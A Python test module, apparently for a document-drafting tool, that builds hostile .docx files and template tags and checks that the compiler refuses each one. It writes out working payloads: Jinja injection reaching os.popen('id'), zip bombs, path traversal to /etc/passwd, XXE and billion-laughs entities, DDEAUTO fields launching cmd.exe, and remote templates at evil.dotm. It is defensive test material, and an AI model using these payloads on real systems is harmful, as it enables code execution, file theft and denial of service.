"""Templates that somebody might send to do harm, or that are no templates; each is made when it is asked for.

`python -m tests.hostile` draws each and prints how long the refusal takes.
"""

from __future__ import annotations

import io
import random
import struct
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from typing import Final

import docx

W: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN: Final = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_OLE: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_LAUGHS: Final = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))

Parts = dict[str, bytes]
Made = Callable[[], bytes]


def parts(*paragraphs: str) -> Parts:
    """Return the parts of a harmless file with these paragraphs."""
    document = docx.Document()
    for paragraph in paragraphs or ("甲",):
        document.add_paragraph(paragraph)
    buffer = io.BytesIO()
    document.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(members: Parts, *also: tuple[str, bytes]) -> bytes:
    """Return an archive of these parts, and of others, whatever they are called."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in [*members.items(), *also]:
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def tag(*paragraphs: str) -> Made:
    return lambda: packed(parts(*paragraphs))


def changed(part: str, old: str, new: str) -> Made:
    """Return the maker of a file in a part of which `old` is `new`."""

    def make() -> bytes:
        members = parts()
        text = members[part].decode()
        assert old in text, (part, old)
        members[part] = text.replace(old, new, 1).encode()
        return packed(members)

    return make


def body(xml: str) -> Made:
    """Return the maker of a file with this at the beginning of its text."""
    return changed("word/document.xml", "<w:body>", f"<w:body>{xml}")


def related(kind: str, target: str, *, outside: bool = True) -> Made:
    mode = ' TargetMode="External"' if outside else ""
    entry = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    return changed("word/_rels/document.xml.rels", "</Relationships>", entry)


def beside(kind: str, name: str, mime: str, content: bytes = b"x") -> Made:
    """Return the maker of a file with one more part, related to the document and declared."""

    def make() -> bytes:
        members = parts()
        relations = members["word/_rels/document.xml.rels"].decode()
        entry = f'<Relationship Id="rId99" Type="{kind}" Target="{name}"/></Relationships>'
        members["word/_rels/document.xml.rels"] = relations.replace("</Relationships>", entry).encode()
        kinds = members["[Content_Types].xml"].decode()
        override = f'<Override PartName="/word/{name}" ContentType="{mime}"/></Types>'
        members["[Content_Types].xml"] = kinds.replace("</Types>", override).encode()
        return packed({**members, f"word/{name}": content})

    return make


def of_kind(mime: str) -> Made:
    return changed("[Content_Types].xml", _MAIN, mime)


def field(instruction: str) -> Made:
    """Return the maker of a file with a field of Word, its instruction split as Word splits it."""
    half = len(instruction) // 2
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
                     for piece in (instruction[:half], instruction[half:]))  # fmt: skip
    return body(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{pieces}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def declared(dtd: str, use: str) -> Made:
    def make() -> bytes:
        members = parts()
        xml = members["word/document.xml"].decode()
        head, _mark, rest = xml.partition("?>")
        rest = rest.replace("<w:body>", f"<w:body><w:p><w:r><w:t>{use}</w:t></w:r></w:p>")
        members["word/document.xml"] = f"{head}?><!DOCTYPE w:document [{dtd}]>{rest}".encode()
        return packed(members)

    return make


def without(part: str) -> Made:
    return lambda: packed({name: data for name, data in parts().items() if name != part})


def plus(name: str, data: bytes = b"x") -> Made:
    return lambda: packed(parts(), (name, data))


def bomb() -> bytes:
    """Return a gigabyte in a megabyte, as the text of the document."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts().items():
            if name != "word/document.xml":
                archive.writestr(name, data)
        with archive.open("word/document.xml", "w") as target:
            for _block in range(1_000):
                target.write(b" " * 1_000_000)
    return buffer.getvalue()


def lying_bomb() -> bytes:
    """Return a bomb whose directory says that it is small."""
    data = bytearray(packed({**parts(), "word/document.xml": b" " * 30_000_000}))
    place = data.rfind(b"word/document.xml") - 46
    struct.pack_into("<L", data, place + 24, 1_000)
    return bytes(data)


def overlapping() -> bytes:
    """Return an archive in which many members share the same packed bytes."""
    members = {**parts(), **{f"word/media/image{n}.png": b"" for n in range(500)}}
    members["word/media/image0.png"] = random.Random(1).randbytes(900_000)
    data = bytearray(packed(members))
    first = data.rfind(b"word/media/image0.png") - 46
    told = data[first + 16 : first + 28], data[first + 42 : first + 46]
    for number in range(1, 500):
        place = data.rfind(f"word/media/image{number}.png".encode()) - 46
        data[place + 16 : place + 28], data[place + 42 : place + 46] = told
    return bytes(data)


def crowd() -> bytes:
    """Return an archive of 70 000 members: more than its end can count."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in [*parts().items(), *((f"word/{n}.xml", b"") for n in range(70_000))]:
            archive.writestr(name, data)
    return buffer.getvalue()


def flipped() -> bytes:
    data = bytearray(packed(parts()))
    place = data.find(b"word/document.xml") + 200
    data[place] ^= 0xFF
    return bytes(data)


def locked() -> bytes:
    """Return an archive whose members are said to be encrypted."""
    data = bytearray(packed(parts()))
    place = data.find(b"PK\x01\x02")
    data[place + 8] |= 1
    return bytes(data)


def huge_header() -> bytes:
    members = parts()
    text = "甲" * 1_500_000
    xml = f'<w:hdr xmlns:w="{W}"><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:hdr>'
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    override = f'<Override PartName="/word/header9.xml" ContentType="{kind}"/></Types>'
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(b"</Types>", override.encode())
    return packed({**members, "word/header9.xml": xml.encode()})


TAGS: Final[dict[str, tuple[str, Made]]] = {
    text: (code, tag(*text.split("¶")))
    for code, texts in {
        "T021": (
            "{{ 事件.append(1) }}", "{{ 事件.clear() }}", "{{ 申请人.delete() }}", "{{ lipsum(n=200000) }}",
            "{{ range(9) }}", "{{ '%s'.format(申请人) }}", "{{ dict(a=1) }}", "{{ joiner() }}",
            "{% if namespace(a=1) %}{% endif %}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "{{ self.__init__.__globals__.__builtins__.__import__('os') }}",
            "{{ ''.__class__.__mro__[1].__subclasses__()[389](['id']).communicate()[0].decode('utf-8') }}",
            "{{ get_flashed_messages.__class__.__mro__[1].__subclasses__()[90] }}",
            "{% for 件 in 事件 %}{{ loop.cycle('甲', '乙') }}{% endfor %}",
        ),
        "T022": (
            "{{ 'x'*10**10 }}", "{{ 9**9**9**9 }}", "{{ '%0999999999d' % 1 }}", "{{ 7*7 }}", "{{ 1/0 }}", "{{ -1 }}",
            "{{ 被申请人-姓名 }}", "{% set x = 'a' * 1000000000 %}", "{% if 'x'*10**9 == 1 %}{% endif %}",
            "{{ ('甲' * 999999999)|待填 }}", "{% if 甲 %}{{ [0]*10**9 }}{% endif %}",
        ),
        "T023": (
            "{{ [1, 2, 3] }}", "{{ {'a': 1} }}", "{{ 事件[1:] }}", "{{ 事件[甲] }}", "{{ ''.x }}",
            "{{ 事件|join(sep='x') }}", "{{ 甲|冠(乙|句) }}", "{{ 'x' in [甲] }}",
        ),
        "T024": (
            "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}",
            "{% for 字 in '甲乙丙' %}{% endfor %}", "{% for i in [1, 2] %}{% endfor %}", "{% for i in 9 %}{% endfor %}",
            "{% for 甲, 乙 in 事件 %}{% endfor %}", "{% for 件 in 事件 recursive %}{% endfor %}",
            "{% for 字 in 甲|join('x') %}{% endfor %}", f"{'{% for 件 in 事件 %}' * 5}{'{% endfor %}' * 5}",
        ),
        "T025": (
            "{{ 申请人.__class__ }}", "{{ lipsum.__globals__['os'] }}", "{{ 申请人['__class__'] }}", "{{ _甲 }}",
            "{{ 申请人._values }}", "{% for _ in 事件 %}{% endfor %}", "{% set __x = 甲 %}",
        ),
        "T026": (
            f"{{{{ {'(' * 900}甲{')' * 900} }}}}", f"{{{{ {'甲.' * 1000}乙 }}}}", f"{{{{ '{'甲' * 5000}' }}}}",
            f"{{{{ {'not ' * 900}甲 }}}}", f"{{% if {' or '.join(['甲'] * 900)} %}}{{% endif %}}",
            f"{'{% if 甲 %}' * 30}{'{% endif %}' * 30}", "{{ 99999999999999999999 }}", "{{甲}}" * 6_000,
            f"{{% if 甲 %}}{'{% elif 甲 %}' * 300}{{% endif %}}", f"{{{{ 甲{'|句' * 500} }}}}",
            f"{'{% if 甲 %}' * 900}{'{% endif %}' * 900}", "{{" * 20_000,
        ),
        "T027": (
            "{% set x = 甲 %}¶{% set x = x|代称(x) %}¶{{ x }}", "{% set x = 甲 %}{% set y = x|冠(x) %}{{ y }}",
        ),
        "T028": ("{{ 甲 ~ 乙 }}", "{% set x = 'a' ~ 甲 %}"),
        "T005": (
            "{% set x %}甲{% endset %}", "{% include 'secret.txt' %}", "{% import 'os' as os %}",
            "{% from 'os' import popen %}",
            "{% extends 'a' %}", "{% macro m() %}{{ m() }}{{ m() }}{% endmacro %}", "{% call m() %}{% endcall %}",
            "{% block b %}{% endblock %}", "{% with a = 1 %}{% endwith %}", "{% do 事件.clear() %}",
            "{% filter upper %}甲{% endfilter %}", "{% autoescape false %}{% endautoescape %}", "{% debug %}",
            "{{ 'x'|center(10) }}", "{{ 甲|attr('__class__') }}", "{{ 甲|map('x') }}", "{{ 甲|safe }}",
            "{{ '%d'|format(1) }}", "{{ 甲|each(1) }}", "{{ 甲|pprint }}", "{{ 事件|xmlattr }}",
            "{% if 甲 is divisibleby 3 %}{% endif %}", "{% if 甲 is callable %}{% endif %}", "{{" * 900,
        ),
    }.items()
    for text in texts
}  # fmt: skip
"""What tags must not say → the code of the refusal and the file; ¶ begins a paragraph."""

_SPREADSHEET: Final = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_VBA: Final = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
_OBJECT: Final = (
    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" '
    'ProgID="Package"/></w:object></w:r></w:p>'
)
_BOUND: Final = (
    '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{00000000-0000-0000-0000-000000000001}"/></w:sdtPr>'
    "<w:sdtContent><w:p/></w:sdtContent></w:sdt>"
)
FILES: Final[dict[str, tuple[str, Made]]] = {
    "~$模板.docx": ("T010", lambda: b"\x05Anna" + b" " * 157),
    "empty.docx": ("T011", lambda: b""),
    "four-bytes.docx": ("T011", lambda: b"PK\x03\x05"),
    "text.docx": ("T011", lambda: "报案材料\n".encode() * 50),
    "link.docx": ("T011", lambda: b"../../templates/real.docx"),
    "page.docx": ("T011", lambda: b"<html><body>x</body></html>"),
    "pdf.docx": ("T011", lambda: b"%PDF-1.7\n" + b"x" * 900),
    "rtf.docx": ("T011", lambda: b"{\\rtf1\\ansi {\\object}}"),
    "some.zip.docx": ("T011", lambda: packed({"a.txt": b"x"})),
    "no-types.docx": ("T011", without("[Content_Types].xml")),
    "no-relations.docx": ("T011", without("_rels/.rels")),
    "no-text.docx": ("T011", without("word/document.xml")),
    "other-kind.docx": ("T011", of_kind("application/xml")),
    "old.docx": ("T012", lambda: _OLE + b"\0" * 4_000),
    "password.docx": ("T012", lambda: _OLE + b"\0" * 900 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 900),
    "zip-password.docx": ("T012", locked),
    "truncated.docx": ("T013", lambda: packed(parts())[:-900]),
    "half.docx": ("T013", lambda: packed(parts())[:9_000]),
    "four.docx": ("T013", lambda: b"PK\x03\x04"),
    "flipped.docx": ("T013", flipped),
    "appended.docx": ("T013", lambda: packed(parts()) + b"x" * 100),
    "prepended.docx": ("T011", lambda: b"MZ" + packed(parts())),
    "two-in-one.docx": ("T013", lambda: packed(parts()) + packed(parts())),
    "not-well-formed.docx": ("T013", changed("word/document.xml", "</w:body>", "")),
    "deep.docx": ("T013", body("<w:sdt><w:sdtContent>" * 400 + "</w:sdtContent></w:sdt>" * 400)),
    "missing-part.docx": ("T013", related(f"{OFFICE}/image", "media/none.png", outside=False)),
    "lying-bomb.docx": ("T013", lying_bomb),
    "overlapping.docx": ("T014", overlapping),
    "bomb.docx": ("T014", bomb),
    "crowd.docx": ("T014", crowd),
    "2000-members.docx": ("T014", lambda: packed(parts(), *((f"word/{n}.xml", b"") for n in range(2_000)))),
    "large.docx": ("T014", lambda: b"PK\x03\x04" + b"x" * 21_000_000),
    "huge-part.docx": ("T014", plus("word/x.xml", random.Random(1).randbytes(9_000_000))),
    "huge-header.docx": ("T014", huge_header),
    "many-paragraphs.docx": ("T014", body("<w:p/>" * 60_000)),
    "wide-row.docx": ("T014", body(f"<w:tbl><w:tr>{'<w:tc><w:p/></w:tc>' * 9_000}</w:tr></w:tbl>")),
    "traversal.docx": ("T015", plus("../../../etc/passwd")),
    "inner-traversal.docx": ("T015", plus("word/../../x.xml")),
    "backslash.docx": ("T015", plus("word\\x.xml")),
    "absolute.docx": ("T015", plus("/etc/passwd")),
    "drive.docx": ("T015", plus("C:/x.xml")),
    "control.docx": ("T015", plus("word/a\x07.xml")),
    "duplicate.docx": ("T015", lambda: packed(parts(), ("word/document.xml", b"<x/>"))),
    "duplicate-case.docx": ("T015", lambda: packed(parts(), ("Word/Document.XML", b"<x/>"))),
    "macros.docx": ("T016", of_kind("application/vnd.ms-word.document.macroEnabled.main+xml")),
    "macro-template.docx": ("T016", of_kind("application/vnd.ms-word.template.macroEnabledTemplate.main+xml")),
    "vba.docx": ("T016", beside(_VBA, "vbaProject.bin", "application/vnd.ms-office.vbaProject")),
    "vba-as-picture.docx": ("T016", beside(_VBA, "vbaProject.bin", "image/png")),
    "vba-renamed.docx": ("T016", beside(_VBA, "media/image9.png", "image/png")),
    "ribbon.docx": (
        "T016", related("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "a.xml"),
    ),
    "attached-http.docx": ("T017", related(f"{OFFICE}/attachedTemplate", "http://203.0.113.9/evil.dotm")),
    "attached-file.docx": ("T017", related(f"{OFFICE}/attachedTemplate", "file:///C:/evil.dotm")),
    "picture-outside.docx": ("T017", related(f"{OFFICE}/image", "https://203.0.113.9/pixel.png")),
    "picture-share.docx": ("T017", related(f"{OFFICE}/image", "\\\\203.0.113.9\\share\\a.png")),
    "ole-link.docx": ("T017", related(f"{OFFICE}/oleObject", "http://203.0.113.9/a.rtf")),
    "sub-document.docx": ("T017", related(f"{OFFICE}/subDocument", "http://203.0.113.9/a.docx")),
    "frame.docx": ("T017", related(f"{OFFICE}/frame", "http://203.0.113.9/a.html")),
    "link-to-file.docx": ("T017", related(f"{OFFICE}/hyperlink", "file:///C:/Windows/System32/calc.exe")),
    "link-to-script.docx": ("T017", related(f"{OFFICE}/hyperlink", "javascript:alert(1)")),
    "link-to-share.docx": ("T017", related(f"{OFFICE}/hyperlink", "\\\\203.0.113.9\\share")),
    "mail-merge-source.docx": ("T017", related(f"{OFFICE}/mailMergeSource", "file:///C:/a.csv")),
    "vml-picture.docx": (
        "T017",
        body('<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://203.0.113.9/a.png"/>'
             "</w:pict></w:r></w:p>"),
    ),
    "ole.docx": ("T018", body(_OBJECT)),
    "sheet.docx": ("T018", beside(f"{OFFICE}/package", "embeddings/a.xlsx", _SPREADSHEET)),
    "activex.docx": ("T018", beside(f"{OFFICE}/control", "activeX1.bin", "application/vnd.ms-office.activeX")),
    "chunk.docx": ("T018", beside(f"{OFFICE}/aFChunk", "a.html", "text/html", b"<html/>")),
    "chunk-as-xml.docx": ("T018", beside(f"{OFFICE}/aFChunk", "a.xml", "application/xml", b"<html/>")),
    "chunk-tag.docx": ("T018", body("<w:altChunk/>")),
    "sub-document-tag.docx": ("T018", body("<w:p><w:subDoc/></w:p>")),
    "control-tag.docx": ("T018", body("<w:p><w:r><w:control/></w:r></w:p>")),
    "nested-zip.docx": ("T018", lambda: packed(parts(), ("word/inner.zip", packed(parts())))),
    "nested-docx.docx": ("T018", lambda: packed(parts(), ("word/inner.docx", packed(parts())))),
    "program.docx": ("T018", plus("word/media/a.exe", b"MZ")),
    "disguised.docx": (
        "T018", beside(f"{OFFICE}/footer", "footer9.png", f"{_MAIN[:-18]}footer+xml", b"<w:ftr/>"),
    ),
    "bound.docx": ("T018", body(_BOUND)),
    "entities.docx": ("T018", declared('<!ENTITY l0 "ha">' + _LAUGHS, "&l9;")),
    "external-entity.docx": ("T018", declared('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")),
    "external-dtd.docx": ("T018", declared('<!ENTITY % x SYSTEM "http://203.0.113.9/a.dtd"> %x;', "a")),
    "include-text.docx": ("T018", field(' INCLUDETEXT "C:\\\\secret.docx" ')),
    "include-picture.docx": ("T018", field(' INCLUDEPICTURE "http://203.0.113.9/a.png" \\d ')),
    "dde.docx": ("T018", field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
    "dde-lower.docx": ("T018", field("  dde excel x y ")),
    "link-field.docx": ("T018", field(' LINK Excel.Sheet.8 "http://203.0.113.9/a.xls" ')),
    "link-field-file.docx": ("T018", field(' HYPERLINK "file:///C:/Windows/System32/calc.exe" ')),
    "button.docx": ("T018", field(" MACROBUTTON AutoOpen 按这里 ")),
    "database.docx": ("T018", field(' DATABASE \\d "C:\\\\a.mdb" ')),
    "composed-field.docx": (
        "T018",
        body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
             '<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
             '<w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    ),
    "simple-field.docx": ("T018", body('<w:p><w:fldSimple w:instr="DDEAUTO cmd x"/></w:p>')),
    "tag-in-field.docx": ("T018", field(" {{ 甲 }} ")),
    "mail-merge.docx": (
        "T018",
        changed("word/settings.xml", "</w:settings>",
                '<w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge></w:settings>'),
    ),
    "own-marks.docx": ("T018", body("<w:p><w:r><w:t>\ufdd07\ufdd1甲\ufdd2</w:t></w:r></w:p>")),
    "word-template.docx": ("T019", of_kind(_MAIN.replace("document.main", "template.main"))),
    "strict.docx": (
        "T019",
        changed("_rels/.rels", f"{OFFICE}/officeDocument", "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument"),
    ),
}  # fmt: skip
"""File name → the code of the refusal and the file."""


def everything() -> Iterator[tuple[str, str, Made]]:
    """Yield (file name, code, maker) of every hostile file; a tag's file is called by its number."""
    for name, (code, made) in FILES.items():
        yield name, code, made
    for number, (code, made) in enumerate(TAGS.values(), start=1):
        yield f"tag-{number}.docx", code, made


def main() -> None:
    """Print how each is refused and in what time."""
    from drafter.errors import TemplateError
    from drafter.word.render import compile_template

    blocked, slowest = 0, 0.0
    for name, code, made in everything():
        data = made()
        begun = time.perf_counter()
        told = "not refused"
        try:
            compile_template(data, name)
        except TemplateError as error:
            told = str(error).split("\n")[0]
        taken = time.perf_counter() - begun
        slowest = max(slowest, taken)
        blocked += f"[{code}]" in told
        sys.stdout.write(f"{taken * 1000:7.1f} ms  {'' if f'[{code}]' in told else '!! ' + code + ' '}{told[:170]}\n")
    sys.stdout.write(f"{blocked} of {len(FILES) + len(TAGS)} refused, the slowest in {slowest:.2f} s\n")


if __name__ == "__main__":
    main()
